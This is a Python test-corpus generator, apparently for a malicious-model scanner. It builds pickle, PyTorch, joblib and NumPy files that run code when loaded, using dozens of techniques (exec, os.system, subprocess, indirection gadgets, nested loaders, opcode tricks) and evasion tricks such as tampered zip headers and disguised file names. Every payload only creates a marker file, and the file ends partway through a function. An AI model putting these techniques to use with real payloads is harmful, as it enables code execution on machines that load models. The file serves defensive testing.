"""Malicious corpus: code-execution techniques placed in every container torch users meet.

Every payload is harmless: it creates one marker file, whose absolute path is fixed at
generation time (so the file's bytes name it). A technique is a function that emits
opcodes pushing one value whose construction runs the payload; a container wraps
those opcodes into a file and says which loader call fires it.

`generate_malicious(out, marker_dir)` writes the whole matrix and returns the records.
"""

from __future__ import annotations

import io
import marshal
import pickle
import shlex
import tempfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.corpus import containers as C
from tests.corpus.pickle_asm import Asm, embeddable
from tests.corpus.record import CorpusFile

MEMO_BASE = 100_000  # payload memo slots, far above anything a host pickler uses


@dataclass
class Ctx:
    """What a technique may use to build its payload."""

    marker: str

    def __post_init__(self) -> None:
        self._memo = MEMO_BASE

    @property
    def py(self) -> str:
        """Python source that creates the marker."""
        return f"open({self.marker!r}, 'w').close()"

    @property
    def sh(self) -> str:
        """Shell command that creates the marker."""
        return "touch " + shlex.quote(self.marker)

    @property
    def argv(self) -> list[str]:
        return ["touch", self.marker]

    @property
    def script(self) -> str:
        """A Python script beside the marker that creates it (written at generation)."""
        return self.marker + ".py"

    def memo(self) -> int:
        self._memo += 1
        return self._memo

    def nested_pickle(self) -> bytes:
        """A complete malicious pickle, for techniques that unpickle bytes."""
        return Asm(2).call("builtins", "exec", self.py).stop().bytes()

    def code_bytes(self) -> bytes:
        # Version-specific: marshal data only loads on the Python that wrote it.
        return marshal.dumps(compile(self.py, "<corpus>", "exec"))


Emit = Callable[[Asm, Ctx], Any]


@dataclass(frozen=True)
class Technique:
    name: str
    description: str
    emit: Emit
    protocol: int = 2  # lowest protocol whose opcodes the body uses
    fires: bool = True
    reason: str = ""  # why it does not fire, when it does not
    dotted: bool = False  # STACK_GLOBAL of "A.b": resolves only in a stream whose PROTO >= 4
    slow: bool = False  # starts a process it does not wait for: marker may come late
    standalone: bool = False  # relies on implicit memo slots: only in whole-pickle containers


TECHNIQUES: dict[str, Technique] = {}


def technique(name: str, description: str, **kw: Any) -> Callable[[Emit], Emit]:
    def register(fn: Emit) -> Emit:
        TECHNIQUES[name] = Technique(name, description, fn, **kw)
        return fn

    return register


# -- small emitters ------------------------------------------------------------------
def getattr_call(a: Asm, push_obj: Callable[[], Any], attr: str, *args: Any) -> Asm:
    """`getattr(<obj>, attr)(*args)`."""
    a.global_("builtins", "getattr")
    push_obj()
    a.string(attr).tuple2().reduce()
    return a.tuple_of(*args).reduce()


def import_module(a: Asm, name: str) -> Asm:
    return a.call("importlib", "import_module", name)


def _partial(a: Asm, module: str, name: str, args: tuple, kwargs: dict) -> Asm:
    """functools.partial(module.name, *args, **kwargs): REDUCE, then BUILD sets the state."""
    a.global_("functools", "partial").global_(module, name).tuple1().reduce()
    a.mark().global_(module, name).tuple_of(*args).value(kwargs).none().tuple()
    return a.build()


# -- techniques: direct callables -------------------------------------------------------
@technique("builtins-exec", "builtins.exec(source)")
def t_exec(a: Asm, c: Ctx) -> None:
    a.call("builtins", "exec", c.py)


@technique("builtins-eval", "builtins.eval(expression)")
def t_eval(a: Asm, c: Ctx) -> None:
    a.call("builtins", "eval", c.py)


@technique("builtins-compile-exec", "exec(compile(source))")
def t_compile(a: Asm, c: Ctx) -> None:
    a.global_("builtins", "exec")
    a.call("builtins", "compile", c.py, "<corpus>", "exec").tuple1().reduce()


@technique("builtins-open", "builtins.open(marker, 'w') creates the file")
def t_open(a: Asm, c: Ctx) -> None:
    a.call("builtins", "open", c.marker, "w")


@technique("io-open", "io.open(marker, 'w')")
def t_io_open(a: Asm, c: Ctx) -> None:
    a.call("io", "open", c.marker, "w")


@technique("codecs-open", "codecs.open(marker, 'w')")
def t_codecs_open(a: Asm, c: Ctx) -> None:
    a.call("codecs", "open", c.marker, "w")


@technique("os-system", "os.system(command)")
def t_os_system(a: Asm, c: Ctx) -> None:
    a.call("os", "system", c.sh)


@technique("posix-system", "posix.system(command): os.system under its real module")
def t_posix_system(a: Asm, c: Ctx) -> None:
    a.call("posix", "system", c.sh)


@technique("os-spawnlp", "os.spawnlp(P_WAIT, 'touch', ...)")
def t_spawnlp(a: Asm, c: Ctx) -> None:
    a.call("os", "spawnlp", 0, "touch", "touch", c.marker)


@technique("subprocess-run", "subprocess.run(argv)")
def t_subprocess_run(a: Asm, c: Ctx) -> None:
    a.global_("subprocess", "run").value(c.argv).tuple1().reduce()


@technique("subprocess-check-output", "subprocess.check_output(argv)")
def t_check_output(a: Asm, c: Ctx) -> None:
    a.global_("subprocess", "check_output").value(c.argv).tuple1().reduce()


@technique("subprocess-getoutput", "subprocess.getoutput(shell command)")
def t_getoutput(a: Asm, c: Ctx) -> None:
    a.call("subprocess", "getoutput", c.sh)


@technique("subprocess-popen", "subprocess.Popen(argv), not waited for", slow=True)
def t_popen(a: Asm, c: Ctx) -> None:
    a.global_("subprocess", "Popen").value(c.argv).tuple1().reduce()


@technique("logging-filehandler", "logging.FileHandler(marker) opens the file")
def t_filehandler(a: Asm, c: Ctx) -> None:
    a.call("logging", "FileHandler", c.marker)


@technique("logging-dictconfig", "logging.config.dictConfig with a FileHandler")
def t_dictconfig(a: Asm, c: Ctx) -> None:
    config = {
        "version": 1,
        "handlers": {"h": {"class": "logging.FileHandler", "filename": c.marker}},
    }
    a.global_("logging.config", "dictConfig").value(config).tuple1().reduce()


@technique("shutil-copyfile", "shutil.copyfile('/dev/null', marker)")
def t_copyfile(a: Asm, c: Ctx) -> None:
    a.call("shutil", "copyfile", "/dev/null", c.marker)


@technique("copyreg-reconstructor", "copyreg._reconstructor(FileHandler, FileHandler, marker)")
def t_reconstructor(a: Asm, c: Ctx) -> None:
    a.global_("copyreg", "_reconstructor")
    a.global_("logging", "FileHandler").global_("logging", "FileHandler").string(c.marker)
    a.tuple3().reduce()


# -- techniques: indirection -------------------------------------------------------------
@technique("pathlib-touch-getattr", "getattr(pathlib.Path(marker), 'touch')()")
def t_path_touch(a: Asm, c: Ctx) -> None:
    getattr_call(a, lambda: a.call("pathlib", "Path", c.marker), "touch")


@technique("pathlib-write-text-getattr", "getattr(Path(marker), 'write_text')('x')")
def t_path_write(a: Asm, c: Ctx) -> None:
    getattr_call(a, lambda: a.call("pathlib", "Path", c.marker), "write_text", "x")


@technique(
    "pathlib-write-text-dotted",
    "STACK_GLOBAL 'pathlib' 'Path.write_text' (dotted name, protocol 4)",
    protocol=4,
    dotted=True,
)
def t_path_dotted(a: Asm, c: Ctx) -> None:
    a.sglobal("pathlib", "Path.write_text")
    a.sglobal("pathlib", "Path").string(c.marker).tuple1().reduce()
    a.string("x").tuple2().reduce()


@technique("getattr-import-os", "getattr(__import__('os'), 'system')(command)")
def t_getattr_import(a: Asm, c: Ctx) -> None:
    getattr_call(a, lambda: a.call("builtins", "__import__", "os"), "system", c.sh)


@technique("getattr-import-builtins", "getattr(__import__('builtins'), 'exec')(source)")
def t_getattr_builtins(a: Asm, c: Ctx) -> None:
    getattr_call(a, lambda: a.call("builtins", "__import__", "builtins"), "exec", c.py)


@technique("importlib-import-module", "getattr(importlib.import_module('subprocess'), 'call')")
def t_importlib(a: Asm, c: Ctx) -> None:
    a.global_("builtins", "getattr")
    import_module(a, "subprocess").string("call").tuple2().reduce()
    a.value(c.argv).tuple1().reduce()


@technique("importlib-source-loader", "SourceFileLoader(name, script).load_module()")
def t_source_loader(a: Asm, c: Ctx) -> None:
    getattr_call(
        a,
        lambda: a.call("importlib.machinery", "SourceFileLoader", "corpus_payload", c.script),
        "load_module",
    )


@technique("sys-modules-getitem", "operator.getitem(sys.modules, 'os').system(command)")
def t_sys_modules(a: Asm, c: Ctx) -> None:
    def push_os() -> None:
        a.global_("operator", "getitem").global_("sys", "modules").string("os")
        a.tuple2().reduce()

    getattr_call(a, push_os, "system", c.sh)


@technique("operator-attrgetter", "operator.attrgetter('system')(os module)(command)")
def t_attrgetter(a: Asm, c: Ctx) -> None:
    a.call("operator", "attrgetter", "system")
    import_module(a, "os").tuple1().reduce()
    a.tuple_of(c.sh).reduce()


@technique("operator-methodcaller", "operator.methodcaller('touch')(Path(marker))")
def t_methodcaller(a: Asm, c: Ctx) -> None:
    a.call("operator", "methodcaller", "touch")
    a.call("pathlib", "Path", c.marker).tuple1().reduce()


@technique("operator-call", "operator.call(exec, source)")
def t_operator_call(a: Asm, c: Ctx) -> None:
    a.global_("operator", "call").global_("builtins", "exec").string(c.py).tuple2().reduce()


@technique("functools-partial", "functools.partial(os.system, command)()")
def t_partial(a: Asm, c: Ctx) -> None:
    a.global_("functools", "partial").global_("os", "system").string(c.sh).tuple2().reduce()
    a.empty_tuple().reduce()


@technique("functools-partial-build", "partial(subprocess.run) given args by BUILD state")
def t_partial_build(a: Asm, c: Ctx) -> None:
    _partial(a, "subprocess", "run", (c.argv,), {"check": False})
    a.empty_tuple().reduce()


@technique("lazy-map-list", "list(map(exec, [source])): the call hides in an iterator")
def t_lazy_map(a: Asm, c: Ctx) -> None:
    a.global_("builtins", "list")
    a.global_("builtins", "map").global_("builtins", "exec").value([c.py]).tuple2().reduce()
    a.tuple1().reduce()


@technique("pkgutil-resolve-name", "pkgutil.resolve_name('os:system')(command)")
def t_resolve_name(a: Asm, c: Ctx) -> None:
    a.call("pkgutil", "resolve_name", "os:system").tuple_of(c.sh).reduce()


@technique("pydoc-locate", "pydoc.locate('os.system')(command)")
def t_pydoc_locate(a: Asm, c: Ctx) -> None:
    a.call("pydoc", "locate", "os.system").tuple_of(c.sh).reduce()


@technique(
    "build-setstate-gadget",
    "BUILD sets instance attribute __setstate__=exec, a second BUILD calls it",
)
def t_setstate(a: Asm, c: Ctx) -> None:
    a.global_("argparse", "Namespace").empty_tuple().reduce()
    a.none().empty_dict().string("__setstate__").global_("builtins", "exec").setitem()
    a.tuple2().build()
    a.string(c.py).build()


# -- techniques: interpreters and runners --------------------------------------------------
@technique("runpy-run-path", "runpy.run_path(script written beside the marker)")
def t_run_path(a: Asm, c: Ctx) -> None:
    a.call("runpy", "run_path", c.script)


@technique("runpy-run-code", "runpy._run_code(source, {}): exec under another name")
def t_run_code(a: Asm, c: Ctx) -> None:
    a.global_("runpy", "_run_code").string(c.py).empty_dict().tuple2().reduce()


@technique("code-interactive-interpreter", "code.InteractiveInterpreter().runsource(source)")
def t_code(a: Asm, c: Ctx) -> None:
    getattr_call(
        a,
        lambda: a.global_("code", "InteractiveInterpreter").empty_tuple().reduce(),
        "runsource",
        c.py,
    )


@technique("timeit", "timeit.timeit(source, 'pass', perf_counter, 1)")
def t_timeit(a: Asm, c: Ctx) -> None:
    a.global_("timeit", "timeit").mark().string(c.py).string("pass")
    a.global_("time", "perf_counter").int_(1).tuple().reduce()


@technique("cprofile-run", "cProfile.run(source)")
def t_cprofile(a: Asm, c: Ctx) -> None:
    a.call("cProfile", "run", c.py)


@technique("profile-run", "profile.run(source)")
def t_profile(a: Asm, c: Ctx) -> None:
    a.call("profile", "run", c.py)


@technique("pdb-run", "pdb.Pdb('tab', StringIO('continue'), StringIO()).run(source)")
def t_pdb(a: Asm, c: Ctx) -> None:
    def push_pdb() -> None:
        # pdb reads commands from `stdin` only when `stdout` is given too.
        a.global_("pdb", "Pdb").string("tab")
        a.call("io", "StringIO", "continue\n").call("io", "StringIO").tuple3().reduce()

    getattr_call(a, push_pdb, "run", c.py)


@technique("trace-run", "trace.Trace(0, 0).run(source)")
def t_trace(a: Asm, c: Ctx) -> None:
    getattr_call(a, lambda: a.call("trace", "Trace", 0, 0), "run", c.py)


@technique("doctest-run-examples", "doctest.run_docstring_examples('>>> source', {})")
def t_doctest(a: Asm, c: Ctx) -> None:
    a.global_("doctest", "run_docstring_examples").string(f">>> {c.py}\n").empty_dict()
    a.tuple2().reduce()


@technique("numpy-runstring", "numpy.testing._private.utils.runstring(source, {})")
def t_runstring(a: Asm, c: Ctx) -> None:
    a.global_("numpy.testing._private.utils", "runstring").string(c.py).empty_dict()
    a.tuple2().reduce()


@technique(
    "asyncio-subprocess",
    "asyncio.run(asyncio.create_subprocess_exec('touch', marker))",
    slow=True,
)
def t_asyncio(a: Asm, c: Ctx) -> None:
    a.global_("asyncio", "run")
    a.call("asyncio", "create_subprocess_exec", "touch", c.marker).tuple1().reduce()


# -- techniques: nested deserializers ------------------------------------------------------
@technique("pickle-loads-nested", "pickle.loads(bytes of a malicious pickle)")
def t_pickle_loads(a: Asm, c: Ctx) -> None:
    a.global_("pickle", "loads").bytes_(c.nested_pickle()).tuple1().reduce()


@technique("c-pickle-loads-nested", "_pickle.loads(...): the C module by name")
def t_c_pickle_loads(a: Asm, c: Ctx) -> None:
    a.global_("_pickle", "loads").bytes_(c.nested_pickle()).tuple1().reduce()


@technique("torch-load-nested", "partial(torch.load, weights_only=False)(BytesIO(pickle))")
def t_torch_load(a: Asm, c: Ctx) -> None:
    _partial(a, "torch", "load", (), {"weights_only": False})
    a.global_("io", "BytesIO").bytes_(c.nested_pickle()).tuple1().reduce().tuple1().reduce()


@technique("torch-storage-load-from-bytes", "torch.storage._load_from_bytes(pickle bytes)")
def t_load_from_bytes(a: Asm, c: Ctx) -> None:
    a.global_("torch.storage", "_load_from_bytes").bytes_(c.nested_pickle()).tuple1().reduce()


@technique("torch-config-load-config", "torch.utils.serialization.config.load_config(pickle)")
def t_load_config(a: Asm, c: Ctx) -> None:
    a.global_("torch.utils.serialization.config", "load_config")
    a.bytes_(c.nested_pickle()).tuple1().reduce()


@technique("torch-collect-env-run", "torch.utils.collect_env.run(shell command)")
def t_collect_env(a: Asm, c: Ctx) -> None:
    a.call("torch.utils.collect_env", "run", c.sh)


@technique("torch-fx-reduce-graph-module", "torch.fx.graph_module.reduce_graph_module execs")
def t_fx(a: Asm, c: Ctx) -> None:
    body = {"_code": "\ndef forward(self):\n    return None\n"}
    a.global_("torch.fx.graph_module", "reduce_graph_module").value(body)
    a.string(c.py + "\n").tuple2().reduce()


@technique("numpy-load-nested", "numpy.load(BytesIO(object .npy), None, True)")
def t_numpy_load(a: Asm, c: Ctx) -> None:
    import numpy as np

    arr = np.empty(1, dtype=object)
    arr[0] = C.Raw(Asm(2, header=False).call("builtins", "exec", c.py).bytes())
    a.global_("numpy", "load")
    a.global_("io", "BytesIO").bytes_(C.npy_bytes(arr)).tuple1().reduce()
    a.none().bool_(True).tuple3().reduce()


@technique("joblib-load-nested", "joblib.load(BytesIO(pickle))")
def t_joblib_load(a: Asm, c: Ctx) -> None:
    a.global_("joblib", "load")
    a.global_("io", "BytesIO").bytes_(c.nested_pickle()).tuple1().reduce().tuple1().reduce()


# -- techniques: code by value -----------------------------------------------------------
def _code(a: Asm, c: Ctx) -> None:
    a.global_("marshal", "loads").bytes_(c.code_bytes()).tuple1().reduce()


@technique("marshal-function", "types.FunctionType(marshal.loads(code), {})()")
def t_marshal(a: Asm, c: Ctx) -> None:
    a.global_("types", "FunctionType")
    _code(a, c)
    a.empty_dict().tuple2().reduce().empty_tuple().reduce()


@technique("newobj-function", "NEWOBJ FunctionType(code, {}) then call it")
def t_newobj_function(a: Asm, c: Ctx) -> None:
    a.global_("types", "FunctionType")
    _code(a, c)
    a.empty_dict().tuple2().newobj().empty_tuple().reduce()


@technique("newobj-ex-function", "NEWOBJ_EX FunctionType(code, {}) then call it", protocol=4)
def t_newobj_ex(a: Asm, c: Ctx) -> None:
    a.sglobal("types", "FunctionType")
    _code(a, c)
    a.empty_dict().tuple2().empty_dict().newobj_ex().empty_tuple().reduce()


class Call:
    """A picklable stand-in for `func(*args)`: pickles as REDUCE func args."""

    def __init__(self, func: Any, args: tuple = ()) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple:
        return self.func, self.args

    def __call__(self, *args: Any) -> Any:  # pickle insists the reduce callable be callable
        raise RuntimeError("corpus payload stand-in; never called at generation")


@technique("cloudpickle-function", "cloudpickle by-value function, called by REDUCE")
def t_cloudpickle(a: Asm, c: Ctx) -> None:
    import cloudpickle

    marker = c.marker
    fn = eval(f"lambda: open({marker!r}, 'w').close()")  # a function with no module
    fn.__module__ = "__main__"
    # Protocol 3: a protocol-2 body names `__builtin__`, which only maps back to
    # `builtins` when the host stream's PROTO is < 3 (joblib and numpy write 3+).
    data = cloudpickle.dumps(Call(fn), protocol=3)
    a.raw(embeddable(data, c.memo() * 10))


# -- techniques: opcode-level tricks ------------------------------------------------------
@technique("stack-global-memo", "STACK_GLOBAL of strings fetched back from the memo", protocol=4)
def t_stack_global_memo(a: Asm, c: Ctx) -> None:
    m1, m2 = c.memo(), c.memo()
    a.string("subprocess").put(m1).pop().string("call").put(m2).pop()
    a.get(m1).get(m2).stack_global().value(c.argv).tuple1().reduce()


@technique(
    "global-split-memo",
    "module and name memoized as innocent dict values, joined later by STACK_GLOBAL",
    protocol=4,
)
def t_split_memo(a: Asm, c: Ctx) -> None:
    m1, m2 = c.memo(), c.memo()
    a.empty_dict().mark()
    a.string("backend").string("builtins").put(m1)
    a.string("mode").string("exec").put(m2)
    a.string("epochs").int_(10)
    a.string("init").get(m1).get(m2).stack_global().string(c.py).tuple1().reduce()
    a.setitems()


@technique(
    "stack-global-memoize",
    "module and name stored by MEMOIZE (implicit slots 0, 1), joined by STACK_GLOBAL",
    protocol=4,
    standalone=True,
)
def t_memoize(a: Asm, c: Ctx) -> None:
    # MEMOIZE slots are implicit (the memo's size), so this body must start the pickle.
    a.string("os").memoize().pop().string("system").memoize().pop()
    a.get(0).get(1).stack_global().string(c.sh).tuple1().reduce()


@technique("inst-opcode", "protocol-0 INST calls os.system with MARKed args", protocol=0)
def t_inst(a: Asm, c: Ctx) -> None:
    a.mark().string(c.sh).inst("os", "system")


@technique("obj-opcode", "protocol-1 OBJ calls builtins.exec", protocol=1)
def t_obj(a: Asm, c: Ctx) -> None:
    a.mark().global_("builtins", "exec").string(c.py).obj()


# -- techniques that only reference --------------------------------------------------------
@technique(
    "ctypes-reference",
    "names ctypes.CDLL and ctypes.util.find_library without calling them",
    fires=False,
    reason="reference only: the pickle builds a tuple of callables and calls nothing",
)
def t_ctypes(a: Asm, c: Ctx) -> None:
    a.global_("ctypes", "CDLL").global_("ctypes.util", "find_library").string(c.marker)
    a.tuple3()


@technique(
    "pip-main-reference",
    "names pip.main next to install-like arguments without calling it",
    fires=False,
    reason="reference only: never installs anything",
)
def t_pip(a: Asm, c: Ctx) -> None:
    a.global_("pip", "main").value(["install", "--dry-run", c.marker]).tuple2()


# Object-level payloads for torch.save(obj) of an object with __reduce__.
OBJECT_PAYLOADS: dict[str, Callable[[Ctx], Any]] = {
    "builtins-exec": lambda c: Call(exec, (c.py,)),
    "os-system": lambda c: Call(__import__("os").system, (c.sh,)),
    "subprocess-run": lambda c: Call(__import__("subprocess").run, (c.argv,)),
    "getattr-import-os": lambda c: Call(
        Call(getattr, (Call(__import__, ("os",)), "system")), (c.sh,)
    ),
    "builtins-eval": lambda c: Call(eval, (c.py,)),
}


def body(tech: Technique, ctx: Ctx, protocol: int | None = None) -> bytes:
    """Opcodes pushing the payload value (no PROTO, no STOP)."""
    a = Asm(max(tech.protocol, 2) if protocol is None else protocol, header=False)
    tech.emit(a, ctx)
    return a.bytes()


def full_pickle(tech: Technique, ctx: Ctx) -> bytes:
    proto = tech.protocol
    a = Asm(proto)
    tech.emit(a, ctx)
    return a.stop().bytes()


# -- containers ----------------------------------------------------------------------
@dataclass(frozen=True)
class Placed:
    """What a container function produced."""

    fname: str
    container: str
    trigger: str
    fires: bool | None = None  # None: the technique decides
    reason: str = ""
    expect_weights_only: bool = False
    notes: str = ""
    deterministic: bool = True
    host_protocol: int | None = None  # protocol of the stream the body is spliced into


Container = Callable[[Technique, Ctx, Path, str], Placed]
CONTAINERS: dict[str, Container] = {}


def container(name: str) -> Callable[[Container], Container]:
    def register(fn: Container) -> Container:
        CONTAINERS[name] = fn
        return fn

    return register


def _state(tensors: bool = True) -> dict[str, Any]:
    import torch

    torch.manual_seed(0)
    return {"fc.weight": torch.randn(3, 2), "fc.bias": torch.zeros(3)} if tensors else {}


def _torch_zip_bytes(tech: Technique, ctx: Ctx, out: Path, id: str) -> bytes:
    """A torch.save zip (archive folder named after `id`) with the payload spliced in."""
    with tempfile.TemporaryDirectory(dir=out) as tmp:
        path = Path(tmp) / f"{id}.pt"
        C.torch_save({**_state(), "_extra": C.Raw(body(tech, ctx))}, path, splice=True)
        return path.read_bytes()


@container("pickle")
def c_raw(tech: Technique, ctx: Ctx, out: Path, id: str) -> Placed:
    (out / f"{id}.pkl").write_bytes(full_pickle(tech, ctx))
    return Placed(f"{id}.pkl", "pickle", "pickle.load")


@container("pickle-in-dict")
def c_raw_dict(tech: Technique, ctx: Ctx, out: Path, id: str) -> Placed:
    obj = {"epoch": 3, "config": {"lr": 0.1}, "callback": C.Raw(body(tech, ctx)), "done": True}
    (out / f"{id}.pickle").write_bytes(C.splice_dumps(obj, protocol=2))
    return Placed(f"{id}.pickle", "pickle", "pickle.load", host_protocol=2)


@container("torch-zip")
def c_torch_zip(tech: Technique, ctx: Ctx, out: Path, id: str) -> Placed:
    (out / f"{id}.pt").write_bytes(_torch_zip_bytes(tech, ctx, out, id))
    return Placed(f"{id}.pt", "torch-zip", "torch.load", host_protocol=2)


@container("torch-zip-metadata")
def c_torch_zip_hidden(tech: Technique, ctx: Ctx, out: Path, id: str) -> Placed:
    import torch

    torch.manual_seed(0)
    sd = torch.nn.Sequential(torch.nn.Linear(2, 3), torch.nn.Linear(3, 1)).state_dict()
    sd._metadata["1"] = {"version": 1, "hook": C.Raw(body(tech, ctx))}  # type: ignore[attr-defined]
    C.torch_save(sd, out / f"{id}.pth", splice=True)
    return Placed(
        f"{id}.pth",
        "torch-zip",
        "torch.load",
        notes="payload inside the state_dict's _metadata, after every tensor (BUILD state)",
        host_protocol=2,
    )


@container("torch-zip-reduce")
def c_torch_reduce(tech: Technique, ctx: Ctx, out: Path, id: str) -> Placed:
    C.torch_save({**_state(), "_extra": OBJECT_PAYLOADS[tech.name](ctx)}, out / f"{id}.pt")
    return Placed(f"{id}.pt", "torch-zip", "torch.load", notes="torch.save of a __reduce__ object")


@container("torch-zip-trailing")
def c_torch_trailing(tech: Technique, ctx: Ctx, out: Path, id: str) -> Placed:
    import torch

    buf = io.BytesIO()
    torch.save(_state(), buf)
    records = []
    for info, content in C.zip_entries(buf.getvalue()):
        name = info.filename.split("/", 1)[1]
        if name in ("version", ".data/serialization_id"):
            continue  # the writer adds them
        if name == "data.pkl":
            content += full_pickle(tech, ctx)
        records.append((name, content))
    C.write_torch_zip(out / f"{id}.pt", records)
    return Placed(
        f"{id}.pt",
        "torch-zip",
        "torch.load",
        fires=False,
        reason="a second pickle after data.pkl's STOP: torch reads one pickle only",
        expect_weights_only=True,
        notes="weights_only accepts: the payload is never read by torch",
    )


def _tampered(kind: str, fn: Callable[[bytes], bytes], notes: str) -> Container:
    def place(tech: Technique, ctx: Ctx, out: Path, id: str) -> Placed:
        (out / f"{id}.pt").write_bytes(fn(_torch_zip_bytes(tech, ctx, out, id)))
        return Placed(f"{id}.pt", kind, "torch.load", notes=notes, host_protocol=2)

    return place


CONTAINERS["zip-bad-crc"] = _tampered(
    "torch-zip-tampered",
    C.tamper_crc,
    "central-directory CRC of data.pkl flipped: torch does not check it",
)
CONTAINERS["zip-local-name"] = _tampered(
    "torch-zip-tampered",
    C.tamper_local_name,
    "local header names data.pkL, central directory data.pkl (Python's zipfile refuses)",
)
CONTAINERS["zip-local-flags"] = _tampered(
    "torch-zip-tampered",
    C.tamper_local_flags,
    "local header of data.pkl claims encryption (flag bit 0); central directory does not",
)
CONTAINERS["zip-deflate"] = _tampered(
    "torch-zip-deflate",
    lambda d: C.rewrite_zip(d, compression=8),
    "re-zipped with DEFLATE: data.pkl is compressed",
)


@container("torch-legacy")
def c_legacy(tech: Technique, ctx: Ctx, out: Path, id: str) -> Placed:
    det = C.torch_save(
        {**_state(), "_extra": C.Raw(body(tech, ctx))}, out / f"{id}.pt", legacy=True, splice=True
    )
    return Placed(
        f"{id}.pt",
        "torch-legacy",
        "torch.load",
        notes="payload in pickle 4",
        deterministic=det,
        host_protocol=2,
    )


def _legacy_slot(index: int, what: str) -> Container:
    def place(tech: Technique, ctx: Ctx, out: Path, id: str) -> Placed:
        path = out / f"{id}.pt"
        det = C.torch_save(_state(), path, legacy=True)
        path.write_bytes(C.replace_pickle(path.read_bytes(), index, full_pickle(tech, ctx)))
        return Placed(
            f"{id}.pt",
            "torch-legacy",
            "torch.load",
            notes=f"payload replaces the {what} pickle (#{index + 1}), unpickled before any check",
            deterministic=det,
        )

    return place


CONTAINERS["torch-legacy-magic"] = _legacy_slot(0, "magic-number")
CONTAINERS["torch-legacy-sysinfo"] = _legacy_slot(2, "sys_info")


def _torchscript(entry: str) -> Container:
    def place(tech: Technique, ctx: Ctx, out: Path, id: str) -> Placed:
        data = C.rewrite_zip(C.torchscript_bytes(), replace={entry: full_pickle(tech, ctx)})
        (out / f"{id}.pt").write_bytes(data)
        return Placed(
            f"{id}.pt",
            "torchscript",
            "torch.jit.load",
            fires=False,
            reason=f"TorchScript's C++ unpickler reads {entry} and resolves no Python globals",
            notes=f"payload pickle as {entry}",
        )

    return place


CONTAINERS["torchscript-constants"] = _torchscript("constants.pkl")
CONTAINERS["torchscript-debug-pkl"] = _torchscript("linear.py.debug_pkl")


@container("joblib")
def c_joblib(tech: Technique, ctx: Ctx, out: Path, id: str) -> Placed:
    import numpy as np

    obj = {"coef": np.arange(3.0), "hook": C.Raw(body(tech, ctx))}
    C.joblib_dump(obj, out / f"{id}.joblib")
    return Placed(f"{id}.joblib", "joblib", "joblib.load", host_protocol=3)


@container("joblib-zlib")
def c_joblib_zlib(tech: Technique, ctx: Ctx, out: Path, id: str) -> Placed:
    import numpy as np

    obj = {"coef": np.arange(3.0), "hook": C.Raw(body(tech, ctx))}
    C.joblib_dump(obj, out / f"{id}.pkl.z", compress="zlib")
    return Placed(f"{id}.pkl.z", "joblib-zlib", "joblib.load", host_protocol=3)


@container("npy-object")
def c_npy(tech: Technique, ctx: Ctx, out: Path, id: str) -> Placed:
    import numpy as np

    arr = np.empty(2, dtype=object)
    arr[0], arr[1] = "label", C.Raw(body(tech, ctx))
    (out / f"{id}.npy").write_bytes(C.npy_bytes(arr))
    return Placed(f"{id}.npy", "npy", "numpy.load", host_protocol=3)


@container("npz-object")
def c_npz(tech: Technique, ctx: Ctx, out: Path, id: str) -> Placed:
    import numpy as np

    arr = np.empty(1, dtype=object)
    arr[0] = C.Raw(body(tech, ctx))
    members = {"weights": C.npy_bytes(np.ones(3)), "meta": C.npy_bytes(arr)}
    (out / f"{id}.npz").write_bytes(C.npz_bytes(members))
    return Placed(
        f"{id}.npz", "npz", "numpy.load", notes="fires when the member is read", host_protocol=3
    )


@container("pickle-concat")
def c_concat(tech: Technique, ctx: Ctx, out: Path, id: str) -> Placed:
    data = pickle.dumps({"weights": [0.1, 0.2]}, protocol=2) + full_pickle(tech, ctx)
    (out / f"{id}.pkl").write_bytes(data)
    return Placed(
        f"{id}.pkl",
        "pickle",
        "pickle.load_all",
        notes="benign pickle, STOP, then the malicious pickle: a single pickle.load is clean",
    )


@container("pickle-as-pt")
def c_as_pt(tech: Technique, ctx: Ctx, out: Path, id: str) -> Placed:
    (out / f"{id}.pt").write_bytes(full_pickle(tech, ctx))
    return Placed(
        f"{id}.pt",
        "pickle",
        "torch.load",
        notes="plain pickle named .pt: torch.load runs it before checking the magic number",
    )


@container("pickle-as-npy")
def c_as_npy(tech: Technique, ctx: Ctx, out: Path, id: str) -> Placed:
    (out / f"{id}.npy").write_bytes(full_pickle(tech, ctx))
    return Placed(
        f"{id}.npy",
        "pickle",
        "numpy.load",
        notes="not an .npy: numpy.load(allow_pickle=True) falls back to pickle.load",
    )


@container("pickle-as-safetensors")
def c_as_safetensors(tech: Technique, ctx: Ctx, out: Path, id: str) -> Placed:
    (out / f"{id}.safetensors").write_bytes(full_pickle(tech, ctx))
    return Placed(
        f"{id}.safetensors",
        "pickle",
        "torch.load",
        fires=False,
        reason="torch.load hands *.safetensors paths to safetensors, which never unpickles",
    )


@container("torch-zip-as-bin")
def c_zip_bin(tech: Technique, ctx: Ctx, out: Path, id: str) -> Placed:
    (out / f"{id}.bin").write_bytes(_torch_zip_bytes(tech, ctx, out, id))
    return Placed(
        f"{id}.bin", "torch-zip", "torch.load", notes="HF-style .bin name", host_protocol=2
    )


@container("torch-zip-as-json")
def c_zip_json(tech: Technique, ctx: Ctx, out: Path, id: str) -> Placed:
    (out / f"{id}.json").write_bytes(_torch_zip_bytes(tech, ctx, out, id))
    return Placed(
        f"{id}.json", "torch-zip", "torch.load", notes="torch zip named .json", host_protocol=2
    )


# Techniques that go into every container; the others get "pickle", "torch-zip" and one
# more container in rotation, so every container sees several techniques.
CORE = ("builtins-exec", "os-system", "getattr-import-os", "functools-partial", "stack-global-memo")
ROTATION = [name for name in CONTAINERS if name not in ("pickle", "torch-zip", "torch-zip-reduce")]
# Containers holding the technique's pickle whole, from its first byte.
WHOLE_PICKLE = ("pickle", "pickle-concat", "pickle-as-pt", "torch-legacy-magic")


def plan() -> list[tuple[str, str]]:
    """(technique, container) pairs in generation order."""
    pairs: list[tuple[str, str]] = []
    for i, name in enumerate(TECHNIQUES):
        chosen = ["pickle", "torch-zip"]
        if TECHNIQUES[name].standalone:
            chosen = list(WHOLE_PICKLE)
        elif name in CORE:
            chosen += ROTATION
        else:
            chosen.append(ROTATION[i % len(ROTATION)])
        if name in OBJECT_PAYLOADS:
            chosen.append("torch-zip-reduce")
        pairs += [(name, c) for c in dict.fromkeys(chosen)]
    return pairs


def make(tech_name: str, container_name: str, out: Path, marker_dir: Path) -> CorpusFile:
    """Generate one malicious file."""
    tech = TECHNIQUES[tech_name]
    id = f"{tech_name}--{container_name}"
